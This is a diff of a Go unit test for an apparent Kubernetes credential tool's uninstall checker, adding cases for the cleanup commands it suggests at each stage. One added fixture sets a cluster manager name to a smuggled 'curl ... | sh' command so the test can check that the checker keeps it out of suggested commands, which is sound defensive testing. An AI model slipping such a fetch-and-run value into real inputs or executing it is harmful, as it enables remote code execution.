@@ -36,18 +36,32 @@ func TestUninstall(t *testing.T) {
 	set := &clusterpassv1alpha1.ClusterCredentialSet{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "gpu"}}
 	granted := &clusterpassv1alpha1.AuthTokenGrant{ObjectMeta: metav1.ObjectMeta{
 		Namespace: "default", Name: "work", DeletionTimestamp: &metav1.Time{}, Finalizers: []string{"clusterpass.dev/revoke"},
-	}}
+	}, Status: clusterpassv1alpha1.AuthTokenGrantStatus{Conditions: []metav1.Condition{
+		{Type: clusterpassv1alpha1.GrantRevoked, Status: metav1.ConditionFalse, Reason: "MemberUnreachable", Message: "connection refused"},
+	}}}
+	heldSet := &clusterpassv1alpha1.ClusterCredentialSet{
+		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "held", DeletionTimestamp: &metav1.Time{}},
+		Status: clusterpassv1alpha1.ClusterCredentialSetStatus{Conditions: []metav1.Condition{
+			{Type: clusterpassv1alpha1.CredentialSetReady, Status: metav1.ConditionFalse, Reason: "NotReady", Message: "no right"},
+		}},
+	}
 	joined := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{
 		Namespace: SystemNamespace, Name: "member-default-bravelion",
 		Labels:      map[string]string{"clusterpass.dev/member-kubeconfig": "true"},
 		Annotations: map[string]string{"clusterpass.dev/cluster-profile": "default/bravelion", member.MemberUIDAnnotation: "member"},
 	}}
+	second := joined.DeepCopy()
+	second.Name, second.Annotations["clusterpass.dev/cluster-profile"] = "member-default-smartfish", "default/smartfish"
+	secondByHand := second.DeepCopy()
+	delete(secondByHand.Annotations, member.MemberUIDAnnotation)
 	byHand := joined.DeepCopy()
 	delete(byHand.Annotations, member.MemberUIDAnnotation)
 	ofAnother := &inventoryv1alpha1.ClusterProfile{
 		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "bravelion"},
 		Spec:       inventoryv1alpha1.ClusterProfileSpec{ClusterManager: inventoryv1alpha1.ClusterManager{Name: "platform"}},
 	}
+	ofAStranger := ofAnother.DeepCopy()
+	ofAStranger.Spec.ClusterManager.Name = "x; curl https://example.com | sh"
 	onMember := func(name string, labels map[string]string) *rbacv1.ClusterRoleBinding {
 		return &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}}
 	}
@@ -64,6 +78,8 @@ func TestUninstall(t *testing.T) {
 		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "clusterpass:credential-sets"},
 	}
 	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: SystemNamespace, Labels: ours}}
+	withHubID := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: SystemNamespace, Name: serverName, Labels: ours}}
+	withHubID.Spec.Template.Spec.Containers = []corev1.Container{{Name: serverName, Args: []string{"--v=2", "--hub-id=blue"}}}
 	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "clusterpass:multikueue", Labels: ours}}
 	gvr := clusterpassv1alpha1.SchemeGroupVersion.WithResource
 	notServed := apierrors.NewNotFound(schema.GroupResource{}, "")
@@ -80,27 +96,50 @@ func TestUninstall(t *testing.T) {
 			hub: []runtime.Object{joined, binding, namespace}, clusterpass: []runtime.Object{set, granted}, services: []runtime.Object{service},
 			stage: "sets", left: "ClusterCredentialSet default/gpu", is: "kubectl delete clustercredentialsets --all --all-namespaces",
 		},
-		"then grants, and what holds them": {
-			hub: []runtime.Object{joined, namespace}, clusterpass: []runtime.Object{granted}, services: []runtime.Object{service},
-			stage: "grants", left: "AuthTokenGrant default/work (being deleted; finalizers clusterpass.dev/revoke)", is: "kubectl delete authtokengrants --all --all-namespaces",
+		"and what holds them": {
+			clusterpass: []runtime.Object{heldSet}, services: []runtime.Object{service},
+			stage: "sets", left: "ClusterCredentialSet default/held (being deleted; NotReady: no right)", is: "kubectl delete clustercredentialsets",
 		},
-		"then members": {
-			hub: []runtime.Object{joined, namespace}, services: []runtime.Object{service},
+		"then members, which get no other grants": {
+			hub: []runtime.Object{joined, namespace}, clusterpass: []runtime.Object{granted}, services: []runtime.Object{service},
 			stage: "members", left: "ClusterProfile default/bravelion", is: "kubectl clusterpass unjoin bravelion --namespace default --member-context CONTEXT",
 		},
 		"also those of another cluster manager": {
 			hub: []runtime.Object{joined, namespace}, services: []runtime.Object{service}, profiles: []runtime.Object{ofAnother},
 			stage: "members", left: "ClusterProfile default/bravelion", is: "unjoin bravelion --namespace default --cluster-manager platform --member-context CONTEXT",
 		},
+		"and no words of others are in a command": {
+			hub: []runtime.Object{joined, namespace}, services: []runtime.Object{service}, profiles: []runtime.Object{ofAStranger},
+			stage: "members", left: "ClusterProfile default/bravelion", is: "unjoin bravelion --namespace default --cluster-manager MANAGER --member-context CONTEXT",
+		},
 		"and those that were joined by hand": {
 			hub: []runtime.Object{byHand, namespace}, services: []runtime.Object{service},
-			stage: "members", left: "ClusterProfile default/bravelion", is: "kubectl -n clusterpass-system delete secret member-default-bravelion",
+			stage: "members", left: "ClusterProfile default/bravelion", is: "kubectl -n clusterpass-system annotate secret member-default-bravelion --overwrite clusterpass.dev/leaving=true && " +
+				"kubectl clusterpass revoke --cluster-profile default/bravelion --all-namespaces && kubectl -n clusterpass-system delete secret member-default-bravelion",
+		},
+		"and before others, with which they may share an account": {
+			hub: []runtime.Object{joined, secondByHand, namespace}, services: []runtime.Object{service},
+			stage: "members", left: "ClusterProfile default/smartfish, ClusterProfile default/bravelion", is: "revoke --cluster-profile default/smartfish",
+		},
+		"the first of several has the command": {
+			hub: []runtime.Object{joined, second, namespace}, services: []runtime.Object{service},
+			stage: "members", left: "ClusterProfile default/bravelion, ClusterProfile default/smartfish", is: "unjoin bravelion --namespace default",
+		},
+		"then grants of members that have no Secret, and what holds them": {
+			hub: []runtime.Object{namespace}, clusterpass: []runtime.Object{granted}, services: []runtime.Object{service},
+			stage: "grants", left: "AuthTokenGrant default/work (being deleted; finalizers clusterpass.dev/revoke; MemberUnreachable: connection refused)",
+			is: "kubectl delete authtokengrants --all --all-namespaces",
 		},
 		"then what is left on them": {
 			hub: []runtime.Object{namespace}, services: []runtime.Object{service},
 			member: []runtime.Object{onMember("left", map[string]string{grant.LabelManagedBy: grant.ManagedBy, grant.LabelHubID: "hub"})},
 			stage:  "on-members", left: "ClusterRoleBinding left on bravelion",
 			is: "kubectl --context=bravelion delete clusterrolebinding --all-namespaces -l 'clusterpass.dev/managed-by=clusterpass,clusterpass.dev/hub-id=hub'",
+		},
+		"by the id that the server was deployed with": {
+			hub: []runtime.Object{namespace, withHubID}, services: []runtime.Object{service},
+			member: []runtime.Object{onMember("left", map[string]string{grant.LabelManagedBy: grant.ManagedBy, grant.LabelHubID: "blue"})},
+			stage:  "on-members", left: "ClusterRoleBinding left on bravelion", is: "clusterpass.dev/hub-id=blue'",
 		},
 		"and what manifests have put there": {
 			hub: []runtime.Object{namespace}, services: []runtime.Object{service}, member: []runtime.Object{onMember("left", ours)},
@@ -135,7 +174,7 @@ func TestUninstall(t *testing.T) {
 		},
 		"then the overlay": {
 			hub: []runtime.Object{namespace, role}, unserved: notServed,
-			stage: "hub", left: "ClusterRole clusterpass:multikueue, Namespace clusterpass-system", is: "kubectl delete -k artifacts/deploy/overlays/OVERLAY --ignore-not-found",
+			stage: "hub", left: "ClusterRole clusterpass:multikueue, Namespace clusterpass-system", is: "kubectl delete -k artifacts/deploy/base --ignore-not-found",
 		},
 		"then what no overlay has": {
 			hub: []runtime.Object{role}, unserved: notServed,
@@ -171,6 +210,9 @@ func TestUninstall(t *testing.T) {
 				} else {
 					assert.Empty(t, finding.Mend, finding.Check)
 				}
+			}
+			if apierrors.IsNotFound(test.unserved) {
+				assert.Equal(t, Skip, found[0].Verdict, "nobody can tell whether there are sets")
 			}
 			if test.stage == "" {
 				assert.Equal(t, OK, Worst(found))
